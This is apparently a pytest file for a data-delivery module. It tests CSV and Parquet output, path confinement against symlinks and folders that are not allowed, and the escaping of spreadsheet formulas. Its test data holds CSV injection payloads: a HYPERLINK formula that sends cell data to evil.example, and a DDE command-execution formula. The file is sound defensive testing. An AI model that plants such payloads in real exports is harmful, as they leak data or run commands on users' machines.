from __future__ import annotations

import csv
import os
from datetime import date
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from ml_assets.spec.deliveries import Delivery
from ml_assets.stores.delivering import DeliveryError, deliver
from ml_assets.stores.paths import StatePaths

DROP = date(2013, 4, 1)
ROWS = pa.table({"batch_date": [DROP, DROP], "rank": [1, 2], "example_id": ["b", "a,c"], "score": [0.9, 0.5],
                 "_features_version": [3, 3]})  # fmt: skip


def handed(paths: StatePaths, delivery: Delivery, rows: pa.Table = ROWS) -> Path | None:
    handed_over = deliver(paths, "late", delivery, DROP, rows)
    assert not isinstance(handed_over, str)
    return handed_over


def test_csv_holds_the_rows_without_what_says_where_they_came_from(tmp_path: Path) -> None:
    path = handed(StatePaths(tmp_path), Delivery(table="worklist"))

    assert path == tmp_path / "delivered" / "late" / "worklist" / "2013-04-01.csv"
    assert path is not None
    assert path.read_text() == 'batch_date,rank,example_id,score\n2013-04-01,1,b,0.9\n2013-04-01,2,"a,c",0.5\n'


def test_parquet_holds_the_rows_with_their_types(tmp_path: Path) -> None:
    delivery = Delivery(table="predictions", format="parquet", folder="desk/scores")

    path = handed(StatePaths(tmp_path), delivery)

    assert path == tmp_path / "delivered" / "late" / "desk" / "scores" / "2013-04-01.parquet"
    assert pq.read_table(path).equals(ROWS.drop_columns("_features_version"))


def test_delivering_the_same_again_leaves_the_file_alone_and_nothing_beside_it(tmp_path: Path) -> None:
    for kind in ("csv", "parquet"):
        delivery = Delivery.model_validate({"table": "worklist", "format": kind})
        path = handed(StatePaths(tmp_path), delivery)
        assert path is not None
        os.utime(path, ns=(1, 1))

        handed(StatePaths(tmp_path), delivery)

        assert path.stat().st_mtime_ns == 1
    assert sorted(file.name for file in path.parent.iterdir()) == ["2013-04-01.csv", "2013-04-01.parquet"]


def test_file_whose_rows_changed_is_replaced_and_one_without_rows_is_taken_back(tmp_path: Path) -> None:
    paths, delivery = StatePaths(tmp_path), Delivery(table="worklist")
    path = handed(paths, delivery)
    assert path is not None

    handed(paths, delivery, ROWS.slice(1))
    assert path.read_text().splitlines()[1:] == ['2013-04-01,2,"a,c",0.5']

    assert handed(paths, delivery, ROWS.slice(2)) is None
    assert not path.exists()


def test_absolute_folder_outside_the_state_is_refused_unless_the_machine_allows_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    delivery = Delivery(table="worklist", folder=str(tmp_path / "desk"))

    with pytest.raises(DeliveryError, match=r"desk is not among the folders of \$ML_ASSETS_DELIVERY_FOLDERS"):
        handed(StatePaths(tmp_path / "data"), delivery)
    assert not (tmp_path / "desk").exists()

    monkeypatch.setenv("ML_ASSETS_DELIVERY_FOLDERS", f"relative{os.pathsep}{tmp_path / 'desk'}")
    assert handed(StatePaths(tmp_path / "data"), delivery) == tmp_path / "desk" / "2013-04-01.csv"


def test_absolute_folder_in_other_state_is_refused(tmp_path: Path) -> None:
    delivery = Delivery(table="worklist", folder=str(tmp_path / "lake" / "late" / "worklist"))

    with pytest.raises(DeliveryError, match="lies in the state of this machine"):
        handed(StatePaths(tmp_path), delivery)
    assert not (tmp_path / "lake").exists()


def test_link_out_of_the_delivered_files_is_not_followed(tmp_path: Path) -> None:
    own = StatePaths(tmp_path / "data").delivered / "late"
    own.mkdir(parents=True)
    (tmp_path / "elsewhere").mkdir()
    (own / "desk").symlink_to(tmp_path / "elsewhere")

    with pytest.raises(DeliveryError, match=r"leads to .*elsewhere"):
        handed(StatePaths(tmp_path / "data"), Delivery(table="worklist", folder="desk"))
    assert list((tmp_path / "elsewhere").iterdir()) == []


def test_link_in_an_allowed_folder_leads_nowhere_else(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "desk").mkdir()
    (tmp_path / "desk" / "out").symlink_to(tmp_path)
    monkeypatch.setenv("ML_ASSETS_DELIVERY_FOLDERS", str(tmp_path / "desk"))

    with pytest.raises(DeliveryError, match="is not among the folders"):
        handed(StatePaths(tmp_path / "data"), Delivery(table="worklist", folder=str(tmp_path / "desk" / "out")))


FORMULAS = ('=HYPERLINK("http://evil.example?"&A1,"open")', "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|'A'!A0",
            "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "-1.5.2", "--1", "=1")  # fmt: skip
PLAIN = (
    "a\r=1+1",
    "a\r\n=1+1",
    "a\n=1+1",
    "-1.5",
    "+3",
    "-.5e-3",
    "1=1",
    "a@b.example",
    "-",
    "",
    "'",
    '5" box',
    "UA-12",
)


def test_texts_that_a_spreadsheet_would_run_are_escaped_in_csv_and_nothing_else_is(tmp_path: Path) -> None:
    rows = pa.table({"example_id": [*FORMULAS, *PLAIN, None], "score": [-1.5] * (len(FORMULAS) + len(PLAIN)) + [None]})

    path = handed(StatePaths(tmp_path), Delivery(table="worklist"), rows)

    assert path is not None
    with path.open(newline="") as file:
        found = list(csv.reader(file))[1:]
    assert [row[0] for row in found] == [*(f"'{value}" for value in FORMULAS), *PLAIN, ""]
    assert {row[1] for row in found} == {"-1.5", ""}


def test_use_case_can_declare_that_texts_are_delivered_as_they_are(tmp_path: Path) -> None:
    rows = pa.table({"example_id": pa.array(FORMULAS).dictionary_encode()})

    path = handed(StatePaths(tmp_path), Delivery(table="worklist", escape_formulas=False), rows)
    escaped = handed(StatePaths(tmp_path), Delivery(table="worklist", folder="desk"), rows)

    assert path is not None
    assert escaped is not None
    with path.open(newline="") as file:
        assert tuple(row[0] for row in list(csv.reader(file))[1:]) == FORMULAS
    assert escaped.read_text().count("'=") == 3


def test_parquet_keeps_texts_as_they_are(tmp_path: Path) -> None:
    rows = pa.table({"example_id": FORMULAS})

    path = handed(StatePaths(tmp_path), Delivery(table="worklist", format="parquet"), rows)

    assert pq.read_table(path).equals(rows)


def test_folder_that_cannot_be_written_to_is_named_with_the_reason(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ML_ASSETS_DELIVERY_FOLDERS", str(tmp_path))
    (tmp_path / "desk").write_text("a file")

    with pytest.raises(DeliveryError, match=r"worklist of 2013-04-01 cannot be delivered to .*desk/2013-04-01\.csv: "):
        handed(StatePaths(tmp_path / "data"), Delivery(table="worklist", folder=str(tmp_path / "desk")))
